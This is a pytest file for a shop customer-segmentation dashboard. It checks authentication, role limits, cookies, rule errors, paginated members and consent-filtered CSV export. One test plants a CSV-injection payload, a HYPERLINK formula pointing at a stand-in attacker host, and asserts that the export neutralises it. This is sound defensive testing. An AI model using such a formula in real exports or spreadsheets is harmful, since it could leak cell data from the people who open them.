"""The dashboard's endpoints and pages in-process (httpx TestClient against the API app with the dashboard)."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from importlib import resources

import pytest
from fastapi.testclient import TestClient

from shopseg.api import create_app
from shopseg.web import dashboard_routers
from tests.web.conftest import DemoStore
from tests.web.test_browser import PAGES


@pytest.fixture(scope="module")
def app(demo_store: DemoStore) -> Iterator[object]:
    app = create_app(demo_store.copy, live=False, routers=dashboard_routers())
    yield app
    app.state.shopseg.close()


def _client(app, role: str | None, store: DemoStore) -> TestClient:
    headers = {"X-API-Key": store.keys[role]} if role else {}
    return TestClient(app, headers=headers)


def _sql(app, query: str, params: list | None = None) -> list[tuple]:
    state = app.state.shopseg
    with state.lock:
        return state.workspace.con.execute(query, params or []).fetchall()


def _is_error_shape(body: dict, status: int) -> None:
    assert body["ok"] is False and body["status"] == status
    assert body["errors"] and body["error"] == "; ".join(e["message"] for e in body["errors"])


def test_pages_redirect_to_login_without_a_key(app, demo_store):
    client = _client(app, None, demo_store)
    for path, _, _ in PAGES:
        r = client.get(path, follow_redirects=False)
        assert r.status_code == 303 and r.headers["location"] == f"/login?next={path}"
    assert client.get("/login").status_code == 200


def test_json_endpoints_answer_401_and_403_in_the_error_shape(app, demo_store):
    r = _client(app, None, demo_store).get("/api/v1/dashboard/overview")
    assert r.status_code == 401
    _is_error_shape(r.json(), 401)
    viewer = _client(app, "viewer", demo_store)
    assert viewer.get("/api/v1/dashboard/overview").status_code == 200
    for method, url, body in [
        ("post", "/api/v1/segments", {"name": "x", "rule": "orders >= 1"}),
        ("get", "/api/v1/segments/loyal/export.csv", None),
    ]:
        r = viewer.request(method, url, json=body)
        assert r.status_code == 403, url
        _is_error_shape(r.json(), 403)
        assert "Expected role 'marketer'" in r.json()["error"]
    assert viewer.get("/segments/new").status_code == 403
    assert "export-btn" not in viewer.get("/segments/loyal").text
    assert "export-btn" in _client(app, "marketer", demo_store).get("/segments/loyal").text


def test_login_sets_an_http_only_same_site_cookie(app, demo_store):
    client = TestClient(app, headers={"Origin": "http://testserver"})  # a browser sends its page's origin
    bad = client.post("/api/v1/dashboard/session", json={"api_key": "ss_0000_nope"})
    assert bad.status_code == 401
    _is_error_shape(bad.json(), 401)
    good = client.post("/api/v1/dashboard/session", json={"api_key": demo_store.keys["viewer"]})
    assert good.json() == {"ok": True, "role": "viewer", "next": "/"}
    cookie = good.headers["set-cookie"].lower()
    assert "httponly" in cookie and "samesite=strict" in cookie
    assert client.get("/rfm", follow_redirects=False).status_code == 200  # the cookie is enough


def test_bad_rule_answers_422_with_the_character_position(app, demo_store):
    r = _client(app, "viewer", demo_store).post(
        "/api/v1/segments/preview", json={"rule": "orders >= 2 AND revnue > 10"}
    )
    assert r.status_code == 422
    body = r.json()
    _is_error_shape(body, 422)
    item = body["errors"][0]
    assert (item["line"], item["col"], item["length"], item["code"]) == (1, 17, 6, "unknown_field")
    assert item["what"] == "unknown field 'revnue'. Did you mean 'revenue'?"


def test_preview_counts_match_sql(app, demo_store):
    r = _client(app, "viewer", demo_store).post(
        "/api/v1/segments/preview", json={"rule": "orders >= 2 AND revenue > 300", "sample": 5}
    )
    body = r.json()
    expected = _sql(
        app,
        "SELECT count(*), sum(revenue) / (SELECT sum(revenue) FROM customer_features) "
        "FROM customer_features WHERE orders >= 2 AND revenue > 300",
    )[0]
    assert body["size"] == expected[0]
    assert body["revenue_share"] == pytest.approx(expected[1])
    assert len(body["sample"]) == 5 and [s["customer_id"] for s in body["sample"]] == sorted(
        s["customer_id"] for s in body["sample"]
    )


def test_member_pages_cover_the_segment_once_and_are_capped(app, demo_store):
    client = _client(app, "viewer", demo_store)
    first = client.get("/api/v1/segments/loyal/customers?page=1&size=40").json()
    seen = [
        r["customer_id"]
        for p in range(1, first["pages"] + 1)
        for r in client.get(f"/api/v1/segments/loyal/customers?page={p}&size=40").json()["rows"]
    ]
    truth = [
        r[0] for r in _sql(app, "SELECT customer_id FROM customer_features WHERE orders >= 4 ORDER BY customer_id")
    ]
    assert seen == truth and first["total"] == len(truth)
    assert client.get("/api/v1/segments/loyal/customers?size=100000").json()["size"] == 200


def test_export_keeps_only_consented_members_and_says_how_many_were_left_out(app, demo_store):
    r = _client(app, "marketer", demo_store).get("/api/v1/segments/loyal/export.csv")
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    ids = [line.split(",")[0] for line in r.text.strip().splitlines()[1:]]
    truth = [
        x[0]
        for x in _sql(
            app,
            """SELECT f.customer_id FROM customer_features f JOIN customers c USING (customer_id)
                                         WHERE f.orders >= 4 AND c.email_marketing ORDER BY 1""",
        )
    ]
    assert ids == truth
    assert int(r.headers["x-shopseg-exported"]) == len(truth)
    assert int(r.headers["x-shopseg-left-out"]) == demo_store.expected["loyal_size"] - len(truth) > 0


def test_explain_and_unknown_names_use_the_error_shape(app, demo_store):
    client = _client(app, "viewer", demo_store)
    member = _sql(app, "SELECT min(customer_id) FROM customer_features WHERE orders >= 4")[0][0]
    body = client.get(f"/api/v1/segments/loyal/explain/{member}").json()
    assert body["member"] is True and body["steps"][0]["condition"] == "orders >= 4"
    for url in ("/api/v1/segments/nope/customers", "/api/v1/segments/loyal/explain/nobody"):
        r = client.get(url)
        assert r.status_code == 404
        _is_error_shape(r.json(), 404)
    assert client.get("/segments/nope").status_code == 404
    # issue 20: an unknown customer used to read "not in customer_features" (a table name)
    error = client.get("/api/v1/segments/loyal/explain/nobody").json()["error"]
    assert "customer 'nobody' is not a customer of this store." in error and "customer_features" not in error


def test_plotly_is_served_from_the_installed_package_and_pages_link_nothing_outside(app, demo_store):
    client = _client(app, "marketer", demo_store)
    js = client.get("/static/plotly.min.js")
    assert js.content == (resources.files("plotly") / "package_data" / "plotly.min.js").read_bytes()
    for path, _, _ in PAGES:
        html = client.get(path).text
        assert '<script src="/static/plotly.min.js"></script>' in html, path
        assert not re.search(r"""(src|href|action)=["']?(https?:)?//""", html), path
        assert "cdn" not in html.lower(), path
    assert client.get("/static/secrets.txt").status_code == 404


def test_members_csv_neutralises_spreadsheet_formulas(app, demo_store):
    """Issue 14, defect 3: a city typed as a formula is written as text (OWASP "CSV Injection")."""
    payload = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    victim = _sql(
        app,
        """SELECT f.customer_id FROM customer_features f JOIN customers c USING (customer_id)
                          WHERE f.orders >= 4 AND c.email_marketing ORDER BY 1 LIMIT 1""",
    )[0][0]
    old = _sql(app, "SELECT city FROM customers WHERE customer_id = ?", [victim])[0][0]
    _sql(app, "UPDATE customers SET city = ? WHERE customer_id = ?", [payload, victim])
    try:
        r = _client(app, "marketer", demo_store).get("/api/v1/segments/loyal/export.csv")
    finally:
        _sql(app, "UPDATE customers SET city = ? WHERE customer_id = ?", [old, victim])
    rows = list(csv.reader(io.StringIO(r.text)))
    row = next(r for r in rows if r[0] == victim)
    assert "'" + payload in row and payload not in row
    assert all("@" in r[2] for r in rows[1:])  # e-mail addresses stay as they are


def test_favicon_is_served(app, demo_store):
    """Issue 20: /favicon.ico was a 404 on every page load."""
    client = TestClient(app)
    for path in ("/favicon.ico", "/static/favicon.svg"):
        r = client.get(path)
        assert r.status_code == 200 and r.headers["content-type"].startswith("image/svg+xml")
        assert r.content.startswith(b"<svg")
    page = _client(app, "viewer", demo_store).get("/").text
    assert '<link rel="icon" href="/static/favicon.svg"' in page
